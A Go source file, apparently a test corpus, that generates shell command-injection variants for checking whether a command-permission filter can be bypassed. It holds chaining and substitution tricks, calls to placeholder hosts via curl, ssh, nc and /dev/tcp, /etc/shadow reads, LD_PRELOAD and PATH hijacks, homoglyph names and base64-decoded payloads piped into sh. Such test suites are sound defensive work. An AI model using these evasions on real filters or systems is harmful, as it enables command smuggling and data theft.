package attack

import "strings"

// add is a trick that puts a text behind the command.
func add(name, text string) trick {
	return trick{name: name, rewrite: func(c string) string { return c + text }}
}

// ahead is a trick that puts a text before the command, and does harm by that.
func ahead(name, text string) trick {
	return trick{name: name, rewrite: func(c string) string { return text + c }, whole: true}
}

// quoted is a command in single quotes.
func quoted(c string) string { return "'" + strings.ReplaceAll(c, "'", `'\''`) + "'" }

// first cuts a command behind its first word, which must be a plain name.
func first(c string) (name, rest string) {
	end := strings.IndexAny(c, " \t\n;|&<>()")
	if end < 0 {
		end = len(c)
	}
	name = c[:end]
	for i := range len(name) {
		if ch := name[i]; (ch < 'a' || ch > 'z') && (ch < '0' || ch > '9') && ch != '-' && ch != '_' {
			return "", ""
		}
	}
	switch name {
	case "", "if", "for", "while", "until", "case", "select", "function", "time", "coproc", "then", "do", "done", "fi", "esac":
		return "", ""
	}
	return name, c[end:]
}

// named is a trick on the program's name.
func named(name string, mild bool, rewrite func(program, rest string) string) trick {
	return trick{name: name, mild: mild, whole: true, rewrite: func(c string) string {
		program, rest := first(c)
		if program == "" {
			return ""
		}
		return rewrite(program, rest)
	}}
}

// one is a trick on a command that has nothing of the shell's in it. It gives
// the command other operands, which may be harmless.
func one(name string, rewrite func(c string) string) trick {
	return trick{name: name, mild: true, rewrite: func(c string) string {
		if program, _ := first(c); program == "" || strings.ContainsAny(c, "\n;|&<>()$`'\"\\#{}*?[]!~") {
			return ""
		}
		return rewrite(c)
	}}
}

var tricks = []trick{
	// Chaining.
	add("newline", "\n"+payload),
	add("two newlines", "\n\n"+payload),
	add("carriage return and newline", "\r\n"+payload),
	add("semicolon", "; "+payload),
	add("semicolon without spaces", ";"+payload),
	add("ampersand", " & "+payload),
	add("ampersand without spaces", "&"+payload),
	add("and", " && "+payload),
	add("or", " || "+payload),
	add("pipe", " | "+payload),
	add("pipe with errors", " |& "+payload),
	ahead("before a semicolon", payload+"; "),
	ahead("before a newline", payload+"\n"),
	ahead("before an or", payload+" || "),
	ahead("in a subshell before", "("+payload+"); "),
	add("in a subshell", "; ("+payload+")"),
	add("in a block", "\n{ "+payload+"; }"),
	add("in a condition", "\nif true; then "+payload+"; fi"),
	add("in a loop", "\nfor i in 1; do "+payload+"; done"),
	add("in a case", "\ncase x in *) "+payload+";; esac"),
	add("negated", "\n! "+payload),
	add("timed", "\ntime "+payload),
	add("as a coprocess", "\ncoproc "+payload),

	// Comments.
	add("after a comment", " # fine\n"+payload),
	add("after an empty comment", " #\n"+payload),
	add("after a comment that ends in a backslash", " # fine \\\n"+payload),
	ahead("after a comment before", "# fine\n"+payload+"\n"),

	// Substitution.
	add("substitution", " $("+payload+")"),
	add("quoted substitution", ` "$(`+payload+`)"`),
	add("backquotes", " `"+payload+"`"),
	add("process substitution", " <("+payload+")"),
	add("output substitution", " >("+payload+")"),
	add("substitution in a default", " ${nod:-$("+payload+")}"),
	add("substitution in a subscript", ` "${nod[$(`+payload+`)]}"`),
	add("substitution in arithmetic", " $(( $("+payload+") ))"),
	add("substitution behind two dashes", " -- $("+payload+")"),
	ahead("substitution in an assignment", "nod=$("+payload+") "),

	// Redirection.
	add("output to a file", " > /tmp/"+mark),
	add("output without spaces", ">/tmp/"+mark),
	add("output over a protected file", " >| /tmp/"+mark),
	add("output appended", " >> /tmp/"+mark),
	add("errors to a file", " 2> /tmp/"+mark),
	add("all output to a file", " &> /tmp/"+mark),
	add("all output appended", " &>> /tmp/"+mark),
	add("both ways", " <> /tmp/"+mark),
	add("output to a port", " > /dev/tcp/"+mark+"/80"),
	ahead("output before", ">/tmp/"+mark+" "),
	add("kept by tee", " | tee /tmp/"+mark),
	add("packed away", " | dd of=/tmp/"+mark),

	// Sent to somebody, in what is asked.
	add("a name that is looked up", "; dig "+mark+".example.com"),
	add("a name that is resolved", "; getent hosts "+mark+".example.com"),
	add("an echo", "; ping -c1 "+mark+".example.com"),
	add("a page", "; curl -s http://"+mark+".example.com/"),
	add("a page by another way", "; curl -s --resolve localhost:80:192.0.2.1 http://localhost/"+mark),
	add("a page of this host's, and another", "; curl -s http://localhost/ http://"+mark+".example.com/"),
	add("a command for another host", "; ssh "+mark+".example.com true"),
	add("piped to another host", " | ssh "+mark+".example.com cat"),
	add("a database on another host", "; psql -h "+mark+".example.com -c 'select 1'"),
	add("a port", "; nc -zv "+mark+".example.com 443"),
	add("somebody's bucket", "; aws s3 ls s3://"+mark+"/"),

	// Run by a folder's configuration.
	add("a repository that somebody has prepared", "; git -C /tmp/"+mark+" status"),
	add("its history", "\ncd /tmp/"+mark+" && git log -1"),
	add("its settings", "; git --git-dir=/tmp/"+mark+" remote -v"),
	add("services that somebody has prepared", "; docker compose -f /tmp/"+mark+" ps"),
	add("a toolchain that somebody has prepared", "; cd /tmp/"+mark+"; cargo --version"),

	// Shells and wrappers.
	add("piped into a shell", " | sh -s /tmp/"+mark),
	add("a shell behind", "; sh -c '"+payload+"'"),
	add("heredoc into a shell", "\nsh <<X /tmp/"+mark+"\n"+payload+"\nX"),
	add("quoted heredoc into a shell", "\nbash <<'X' /tmp/"+mark+"\n"+payload+"\nX"),
	add("heredoc with a substitution", "\ncat <<X /tmp/"+mark+"\n$("+payload+")\nX"),
	add("here-string into a shell", "\nbash <<< '"+payload+"'"),
	add("eval", "; eval '"+payload+"'"),
	add("xargs", " | xargs touch /tmp/"+mark),
	add("find", "; find /tmp -maxdepth 0 -exec touch /tmp/"+mark+` \;`),
	add("awk", `; awk 'BEGIN{print > "/tmp/`+mark+`"}'`),
	add("sed", " | sed 'w /tmp/"+mark+"'"),
	add("sort", " | sort -o /tmp/"+mark),
	add("uniq", " | uniq - /tmp/"+mark),
	{name: "sudo", whole: true, rewrite: func(c string) string { return "sudo sh -c " + quoted(c) }},
	{name: "eval", whole: true, rewrite: func(c string) string { return "eval " + quoted(c) }},
	{name: "nohup", whole: true, rewrite: func(c string) string { return "nohup sh -c " + quoted(c) }},
	{name: "script by name", whole: true, rewrite: func(c string) string { return "source <(echo " + quoted(c) + ")" }},
	{name: "shell", mild: true, rewrite: func(c string) string { return "sh -c " + quoted(c) }},
	{name: "timeout", mild: true, rewrite: func(c string) string { return "timeout 99 sh -c " + quoted(c) }},
	{name: "block", mild: true, rewrite: func(c string) string { return "{ " + c + "\n}" }},
	{name: "subshell", mild: true, rewrite: func(c string) string { return "( " + c + "\n)" }},
	{name: "condition", mild: true, rewrite: func(c string) string { return "if true; then " + c + "\nfi" }},
	{name: "silenced", mild: true, rewrite: func(c string) string { return "{ " + c + "\n} >/dev/null" }},

	// Values of options and operands that a table could take for harmless.
	add("a word that the input replaces", "\necho touch | xargs -I ls env ls /tmp/"+mark),
	add("a long option of awk", "\ngawk -W dump-variables=/tmp/"+mark+" 'BEGIN{}'"),
	add("a function that edits", "\nsqlite3 :memory: \"select [edit]('x','touch /tmp/"+mark+" #')\""),
	add("a module", "\nssh -I /tmp/"+mark+" localhost uptime"),
	add("an abbreviation that sets", "\nip link s "+mark+" down"),
	add("a cache that is named", "\nblkid -c /tmp/"+mark),
	add("a filter that looks like an option", "\nrsync -a --delete -f'- "+mark+" n' src/ dst/"),
	add("bytes for a listener", "\necho "+mark+" | nc -n 127.0.0.1 6379"),
	add("a configuration that is checked", "\nhaproxy -c -f /tmp/"+mark),
	add("a history that is written", "\nnstat -z "+mark),
	add("a function called with a row", "\npsql -c 'select (r).\""+mark+"\" from (select 1) r'"),
	add("a name in escapes", "\npsql -c \"select U&\\\"\\0070g_read_file\\\"('/tmp/"+mark+"')\""),
	add("a word for a shared connection", "\nssh -O exit "+mark),
	add("a word that the input replaces by a long option", "\necho touch | xargs --replace=ls env ls /tmp/"+mark),
	add("a name in a filter", "\nss -t dst "+mark+".example.com"),
	add("a name for a table", "\narp "+mark+".example.com"),
	add("a name behind a sign", "\nlsof -i @"+mark+".example.com"),
	add("a descriptor of somebody else's", "\necho "+mark+" >&7"),
	add("a descriptor by its path", "\necho "+mark+" >/dev/fd/7"),
	add("a secret for a program that nobody knows", "\n"+mark+" /etc/shadow"),
	add("a dry run that is none", "\nkubectl delete pod "+mark+" --dry-run=none"),
	add("help behind a command", "\nenv touch /tmp/"+mark+" --help"),
	add("help behind a wrapped command", "\ntimeout 9 touch /tmp/"+mark+" --help"),
	add("help for a command in a container", "\ndocker exec web touch /tmp/"+mark+" --help"),
	add("a glued output", "\nsort -uo/tmp/"+mark+" /etc/hosts"),
	add("an output behind a value", "\nsort -k 1 -o /tmp/"+mark+" /etc/hosts"),
	add("an abbreviated option", "\nsort --outp=/tmp/"+mark+" /etc/hosts"),
	add("an output in a cluster", "\ncurl -so/tmp/"+mark+" http://localhost/"),
	add("a capture written on", "\ntcpdump -r f -w /tmp/"+mark),
	add("a listing written", "\ntree -o /tmp/"+mark),
	add("a compiled file", "\nfile -C -m /tmp/"+mark),
	add("one file for each document", "\nyq -s ."+mark+" f.yml"),
	add("a log of a pager", "\nless -o/tmp/"+mark+" /etc/hosts"),
	add("a pager that is named", "\nman -P '"+payload+"' ls"),
	add("a filter for every file", "\nrg --pre /tmp/"+mark+" x"),
	add("a certificate written", "\nopenssl x509 -in f -out /tmp/"+mark),
	add("a place that is kept", "\njournalctl --cursor-file=/tmp/"+mark),
	add("a dump of sockets", "\nss -D /tmp/"+mark),
	add("an archive's list", "\ntar -tf x.tar --index-file=/tmp/"+mark),
	add("a program for an archive", "\ntar -tf x.tar -I /tmp/"+mark),
	add("a search that writes", "\nfind / -maxdepth 0 -fprintf /tmp/"+mark+" x"),
	add("a program for what is found", "\nfd -x touch /tmp/"+mark),
	add("a request that acts", "\ncurl -X DELETE http://localhost:9200/"+mark),
	add("a call on a bus", "\nbusctl call "+mark+" / x Reboot"),
	add("another place that is asked", "\naws --endpoint-url http://"+mark+".example.com s3 ls"),
	add("a value from a file", "\naws ec2 describe-instances --filters file:///etc/"+mark),
	add("a restart of a pool", "\nzpool import -F "+mark),
	add("a network that is named", "\nvirsh -c qemu+ssh://"+mark+".example.com/system list"),

	// The environment.
	ahead("preloaded library", "LD_PRELOAD=/tmp/"+mark+" "),
	ahead("search path", "PATH=/tmp/"+mark+":$PATH "),
	ahead("search path for good", "PATH=/tmp/"+mark+"\n"),
	ahead("separators", "IFS=/\n"),
	ahead("separators before", "IFS=x "),
	ahead("start file", "BASH_ENV=/tmp/"+mark+" "),
	ahead("start file for good", "export BASH_ENV=/tmp/"+mark+"\n"),
	ahead("pager", "PAGER=/tmp/"+mark+" "),
	ahead("git's program", "GIT_SSH_COMMAND=/tmp/"+mark+" "),
	ahead("git's differ", "GIT_EXTERNAL_DIFF=/tmp/"+mark+" "),
	ahead("prompt command", "PROMPT_COMMAND='"+payload+"'\n"),
	ahead("trap", "trap '"+payload+"' EXIT\n"),
	ahead("debug trap", "trap '"+payload+"' DEBUG\n"),
	ahead("trace prompt", "PS4='$("+payload+")'; set -x\n"),
	ahead("env with a path", "env PATH=/tmp/"+mark+" "),
	ahead("env that splits", "env -S '"+payload+"' "),

	// Names.
	named("relative program", false, func(p, rest string) string { return "./" + p + rest }),
	named("program in a foreign folder", false, func(p, rest string) string { return "/tmp/" + p + rest }),
	named("program above a folder", false, func(p, rest string) string { return "/usr/bin/../../tmp/" + p + rest }),
	named("look-alike letter", false, lookAlike),
	named("invisible letter", false, func(p, rest string) string { return p + "\u200b" + rest }),
	named("right to left", false, func(p, rest string) string { return "\u202e" + p + rest }),
	named("wide letter", false, func(p, rest string) string { return string(rune(p[0])+0xfee0) + p[1:] + rest }),
	named("no-break space", false, func(p, rest string) string { return p + "\u00a0" + rest }),
	named("alias", false, func(p, rest string) string { return "alias " + p + "='" + payload + "'\n" + p + rest }),
	named("function", false, func(p, rest string) string { return p + "() { " + payload + "; }\n" + p + rest }),
	named("keyword function", false, func(p, rest string) string { return "function " + p + " { " + payload + "; }; " + p + rest }),
	named("hashed name", false, func(p, rest string) string { return "hash -p /tmp/" + mark + " " + p + "\n" + p + rest }),
	named("variable as a program", false, func(p, rest string) string { return "nod=" + p + "; nod=touch; $nod /tmp/" + mark + rest }),
	named("program that is printed", false, func(p, rest string) string { return "$(echo touch) /tmp/" + mark + "; " + p + rest }),
	named("wildcard as a program", false, func(p, rest string) string { return "/???/touch /tmp/" + mark + "; " + p + rest }),
	named("doubled name", false, func(p, rest string) string { return p + ".sh" + rest }),

	// What does not end, and what cannot be seen.
	{name: "unclosed quote", broken: true, rewrite: func(c string) string { return c + " '" }},
	{name: "unclosed substitution", broken: true, rewrite: func(c string) string { return c + " $(" }},
	{name: "unclosed heredoc", whole: true, rewrite: func(c string) string { return c + "\nsh <<X\n" + payload }},
	{name: "open block", broken: true, rewrite: func(c string) string { return c + "\n{" }},
	add("line that goes on", "\n"+payload+` \`),
	{name: "zero byte", whole: true, rewrite: func(c string) string { return c + "\x00" }},
	{name: "escape sequence", whole: true, rewrite: func(c string) string { return c + "\x1b[2K" }},
	{name: "backspaces", whole: true, rewrite: func(c string) string { return c + "\x08\x08" }},
	{name: "bidirectional override", whole: true, rewrite: func(c string) string { return c + " \u202e" }},
	{name: "line separator", whole: true, rewrite: func(c string) string { return c + "\u2028" + payload }},
	{name: "invalid bytes", whole: true, rewrite: func(c string) string { return c + " \xff" }},

	// Operands and options that a rule for the bare command does not mean.
	one("option that writes", func(c string) string { return c + " --output=/etc/cron.d/" + mark }),
	one("operand behind two dashes", func(c string) string { return c + " -- /etc/shadow" }),
	one("secret operand", func(c string) string { return c + " /etc/shadow" }),
	one("path that climbs", func(c string) string { return c + " /srv/../etc/shadow" }),
	one("braces", func(c string) string { return "{" + strings.Join(strings.Fields(c), ",") + "}" }),
	one("quotes inside", func(c string) string { return c[:1] + "''" + c[1:] }),
	one("escaped", func(c string) string { return `\` + c }),
	one("an answer that leads elsewhere", func(c string) string {
		if program, _ := first(c); program != "curl" {
			return ""
		}
		return c + " -L"
	}),
}

// lookAlike replaces the first Latin letter that has a Cyrillic twin.
func lookAlike(p, rest string) string {
	twins := strings.NewReplacer("a", "\u0430", "c", "\u0441", "e", "\u0435", "o", "\u043e", "p", "\u0440", "s", "\u0455", "i", "\u0456", "x", "\u0445", "y", "\u0443")
	if twin := twins.Replace(p); twin != p {
		return twin + rest
	}
	return ""
}

// disguise is the payload written in another way.
type disguise struct{ name, text string }

var disguises = []disguise{
	{"plain", payload},
	{"quotes inside", "to''uch /tmp/" + mark},
	{"double quotes inside", `to""uch /tmp/` + mark},
	{"backslash inside", `to\uch /tmp/` + mark},
	{"escaped quotes", `$'\x74ouch' /tmp/` + mark},
	{"octal quotes", `$'\164ouch' /tmp/` + mark},
	{"separator", "touch$IFS/tmp/" + mark},
	{"separator in braces", "touch${IFS}/tmp/" + mark},
	{"braces", "{touch,/tmp/" + mark + "}"},
	{"variable", "nod=touch; $nod /tmp/" + mark},
	{"built word", "a=tou b=ch; $a$b /tmp/" + mark},
	{"absolute", "/usr/bin/touch /tmp/" + mark},
	{"command", "command touch /tmp/" + mark},
	{"builtin eval", "builtin eval 'touch /tmp/" + mark + "'"},
	{"exec", "exec touch /tmp/" + mark},
	{"env", "env touch /tmp/" + mark},
	{"busybox", "busybox touch /tmp/" + mark},
	{"copy", "cp /dev/null /tmp/" + mark},
	{"redirection", ": > /tmp/" + mark},
	{"program in a string", "sh -c 'touch /tmp/" + mark + "'"},
	{"decoded", "echo dG91Y2gK | base64 -d | sh -s /tmp/" + mark},
	{"python", `python3 -c 'open("/tmp/` + mark + `","w")'`},
	{"removal", "rm -rf /tmp/" + mark},
}

// wrappings run a text once more, and never make it harmless.
var wrappings = []trick{
	{name: "in a shell", rewrite: func(c string) string { return "sh -c " + quoted(c) }},
	{name: "in a block", rewrite: func(c string) string { return "{ " + c + "\n}" }},
	{name: "in a subshell", rewrite: func(c string) string { return "( " + c + "\n)" }},
	{name: "in a condition", rewrite: func(c string) string { return "if true; then\n" + c + "\nfi" }},
	{name: "in a loop", rewrite: func(c string) string { return "for i in 1 2; do\n" + c + "\ndone" }},
	{name: "in a substitution", rewrite: func(c string) string { return `echo "$(` + c + "\n)\"" }},
	{name: "under timeout", rewrite: func(c string) string { return "timeout 9 bash -c " + quoted(c) }},
	{name: "under nice", rewrite: func(c string) string { return "nice -n 19 bash -c " + quoted(c) }},
	{name: "on another host", rewrite: func(c string) string { return "ssh web-1 " + quoted(c) }},
	{name: "in a container", rewrite: func(c string) string { return "docker exec web sh -c " + quoted(c) }},
	{name: "under sudo", rewrite: func(c string) string { return "sudo bash -c " + quoted(c) }},
	{name: "watched", rewrite: func(c string) string { return "watch -n 9 " + quoted(c) }},
}
